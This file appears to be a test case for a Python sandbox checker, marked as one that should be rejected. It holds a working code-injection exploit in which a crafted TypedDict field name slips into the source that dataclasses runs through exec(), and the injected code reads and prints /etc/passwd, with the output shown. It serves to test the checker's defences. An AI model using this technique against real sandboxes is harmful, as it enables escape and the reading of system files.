# expect: reject module_attribute
# Mechanism: decorator stacking: @dataclasses.dataclass(init=False, eq=False) over a 
#   program decorator that returns a class built by typing.TypedDict('Forged', {NAME: 
#   int}); NAME (any string) becomes a field name pasted into the exec()'d source of 
#   __repr__
# Goal reached: code injected into dataclasses' exec: open() called by the injected code, /etc/passwd read
# Checker: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | True
#   | root:x:0:0:root:/root:/bin/bash
#   | daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   | bin:x:2:2:bin:/bin:/usr/sbin/nologin
#   | sys:x:3:3:sys:/dev:/usr/sbin/nologin
#   | sync:x
#   | Forged(__class__ orNone=<class '__main__.Forged'>)
# @dataclass is decorator-only "on a class statement of the program", but decorators
# stack: the decorator below it (a plain function) hands @dataclass another class.
# typing.TypedDict's functional form builds a class whose __annotations__ keys are
# any strings; @dataclass turns each key into a field name and pastes it into the
# source of __repr__, which it exec()s ("no program-controlled string reaches a code
# generator" does not hold).
import dataclasses
import typing

NAME = "__class__ or{print(open('/etc/passwd').read()[:160])}"
Forged = typing.TypedDict("Forged", {NAME: int})


def swap(cls):
    return Forged


@dataclasses.dataclass(init=False, eq=False)
@swap
class Point:
    pass


print(Point is Forged)
print(Point.__repr__(Point.__new__(Point)))
